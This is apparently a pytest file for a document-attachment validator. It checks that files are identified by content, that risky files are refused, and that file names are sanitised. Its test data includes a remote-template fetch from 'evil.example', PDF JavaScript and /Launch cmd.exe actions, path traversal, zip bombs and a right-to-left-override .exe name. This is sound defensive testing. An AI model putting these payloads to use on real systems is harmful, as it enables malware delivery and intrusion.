"""Attached files: what they are by content, which cannot be taken, and what they are called."""

from contextlib import suppress
from io import BytesIO

import pytest
from hypothesis import given
from hypothesis import strategies as st

from kvitto.core.files.attachment import (
    NAME_CHARS_MAX,
    Attachment,
    UnreadableName,
    from_text,
    kept_names,
    readable_name,
)
from kvitto.core.files.inspect import type_of
from kvitto.core.files.refused import Refused
from kvitto.core.ids import Reference
from tests import attached

REFERENCE = Reference("VGR-2026-7KQ4-M2XP")


@pytest.mark.parametrize(
    "content, type_",
    [
        (attached.pdf(), "pdf"),
        (attached.docx(), "docx"),
        (attached.xlsx(), "xlsx"),
        (attached.odt(), "odt"),
        (attached.PNG, "png"),
        (attached.JPG, "jpg"),
    ],
    ids=lambda value: value if isinstance(value, str) else "",
)
def test_a_file_is_what_its_content_says(content, type_):
    assert type_of(BytesIO(content)) == type_


PROGRAM = b'<Relationship Type="http://x/attachedTemplate" Target="https://evil.example/x.dotm" TargetMode="External"/>'
REFUSED = {
    "nothing": (b"", "file_empty"),
    "a program": (b"MZ\x90\x00" + b"\x00" * 100, "file_type"),
    "a web page": (b"<!DOCTYPE html><script>alert(1)</script>", "file_type"),
    "a web page that says it is a PDF further down": (b"<html>%PDF-1.7", "file_type"),
    "a picture of another type": (b"GIF89a" + b"\x00" * 20, "file_type"),
    "an SVG": (b"<svg xmlns='http://www.w3.org/2000/svg'/>", "file_type"),
    "an archive of anything": (attached.package({"hej.txt": b"hej"}), "file_type"),
    "an OpenDocument that is no text": (
        attached.package({"mimetype": b"application/vnd.oasis.opendocument.graphics", "content.xml": b""}),
        "file_type",
    ),
    "an old Word document": (attached.OLD_WORD, "file_old_office"),
    "a Word document with a password": (attached.LOCKED_WORD, "file_locked"),
    "a package with a password": (attached.locked_package(), "file_locked"),
    "an OpenDocument with a password": (
        attached.package(
            {
                "mimetype": b"application/vnd.oasis.opendocument.text",
                "content.xml": b"",
                "META-INF/manifest.xml": b"<manifest:encryption-data/>",
            }
        ),
        "file_locked",
    ),
    "Word macros": (attached.docx(word__vbaProject_0_bin=b"x"), "file_macro"),
    "Word macros under another name": (attached.macro_types(), "file_macro"),
    "Excel's old macros": (attached.docx(xl__macrosheets__sheet1_0_xml=b"x"), "file_macro"),
    "a control that runs": (attached.docx(word__activeX__activeX1_0_xml=b"x"), "file_macro"),
    "an old document within": (attached.docx(word__embeddings__oleObject1_0_bin=b"x"), "file_macro"),
    "a template fetched from elsewhere": (attached.docx(word___rels__settings_0_xml_0_rels=PROGRAM), "file_macro"),
    "OpenDocument macros": (attached.odt(Basic__Standard__Module1_0_xml=b"x"), "file_macro"),
    "half a package": (attached.docx()[:60], "file_damaged"),
    "a part twice": (attached.package({"A.xml": b"", "a.xml": b""}), "file_damaged"),
    "a part that leads out": (attached.package({"../../etc/passwd": b"x"}), "file_damaged"),
    "half a PDF": (attached.pdf()[:-20], "file_damaged"),
    "a PDF with a password": (attached.pdf(b"trailer <</Encrypt 5 0 R>>"), "file_locked"),
    "a PDF that runs a script": (attached.pdf(b"<</S /JavaScript /JS (app.alert(1))>>"), "file_script"),
    "a PDF with a script spelled otherwise": (attached.pdf(b"<</S /J#61vaScr#69pt>>"), "file_script"),
    "a PDF with a packed script": (attached.pdf(packed=b"3 0 <</S /JavaScript>>"), "file_script"),
    "a PDF whose packing is spelled otherwise": (
        attached.pdf(packed=b"<</JS (x)>>", dictionary=b"/Type /Obj#53tm"),
        "file_script",
    ),
    "a PDF that starts a program": (attached.pdf(b"<</S /Launch /F (cmd.exe)>>"), "file_script"),
    "a PDF with files in it": (attached.pdf(b"<</Type /EmbeddedFile>>"), "file_script"),
    "a PDF packed in an unknown way": (
        attached.pdf().replace(b"\x78\x9c", b"\x00\x00", 1),
        "file_damaged",
    ),
}


@pytest.mark.parametrize("content, code", REFUSED.values(), ids=REFUSED)
def test_what_runs_is_locked_or_is_of_another_type_is_refused_in_its_own_words(content, code):
    with pytest.raises(Refused) as refused:
        type_of(BytesIO(content))
    assert refused.value.code == code


def test_words_in_pictures_and_page_contents_of_a_pdf_are_no_scripts():
    assert type_of(BytesIO(attached.pdf(packed=b"/JS /Launch", dictionary=b"/Type /XObject /Subtype /Image"))) == "pdf"


def test_a_bomb_is_not_unpacked():
    assert _code(attached.package({"[Content_Types].xml": b"", "word/document.xml": b"\0" * 301_000_000})) == (
        "file_damaged"
    )
    assert _code(attached.pdf(packed=b"\0" * 41_000_000)) == "file_damaged"


def _code(content: bytes) -> str:
    with pytest.raises(Refused) as refused:
        type_of(BytesIO(content))
    return refused.value.code


@given(st.sampled_from([attached.pdf(), attached.docx(), attached.xlsx(), attached.odt()]), st.data())
def test_whatever_is_broken_in_a_file_it_is_taken_or_refused_and_nothing_else(content, data):
    at = data.draw(st.integers(0, len(content) - 1))
    broken = bytearray(content)
    broken[at] ^= data.draw(st.integers(1, 255))
    cut = broken[: data.draw(st.integers(len(broken) // 2, len(broken)))]
    with suppress(Refused):
        type_of(BytesIO(bytes(cut)))


# -- Names ------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "given_, read",
    [
        ("Offert.pdf", "Offert.pdf"),
        ("C:\\Users\\bib\\Offert från förlaget.pdf", "Offert från förlaget.pdf"),
        ("../../etc/passwd", "passwd"),
        ("a\u030anger.pdf", "ånger.pdf"),
        ("x" * 300 + ".docx", "x" * (NAME_CHARS_MAX - 5) + ".docx"),
        ("<script>alert(1)</script>.pdf", "script>.pdf"),
    ],
)
def test_a_name_is_what_the_browser_says_without_folders_and_not_too_long(given_, read):
    assert readable_name(given_) == read


@pytest.mark.parametrize("name", ["", "..", "a\r\nb.pdf", "faktura\u202efdp.exe", "\ud800.pdf", "…", "a\u200bb.pdf"])
def test_a_name_that_nobody_can_read_is_refused(name):
    with pytest.raises(UnreadableName):
        readable_name(name)


def test_files_are_handed_out_by_reference_question_and_name_and_no_two_alike():
    names = ["Offert från förlaget.PDF", "offert-från förlaget.pdf", "書類.pdf", "Budget.exe"]
    files = [Attachment(f"{n:032x}", name, "pdf", 1000) for n, name in enumerate(names)]

    assert kept_names(REFERENCE, "bilagor", files) == [
        "VGR-2026-7KQ4-M2XP_bilagor_Offert-fran-forlaget.pdf",
        "VGR-2026-7KQ4-M2XP_bilagor_offert-fran-forlaget-2.pdf",
        "VGR-2026-7KQ4-M2XP_bilagor_fil.pdf",
        "VGR-2026-7KQ4-M2XP_bilagor_Budget.pdf",
    ]
    same = [Attachment(f"{n:032x}", "A.pdf", "pdf", 1000) for n in range(2)]
    assert kept_names(REFERENCE, "bilagor", same)[1].endswith("_A-2.pdf")


@given(st.text(max_size=40))
def test_no_text_but_our_own_is_read_as_an_attachment(text):
    with pytest.raises(ValueError, match=r"attachment|Expecting|Extra|Invalid"):
        from_text(text)
    file = Attachment("0" * 32, text, "pdf", 5)
    assert from_text(file.text()) == file
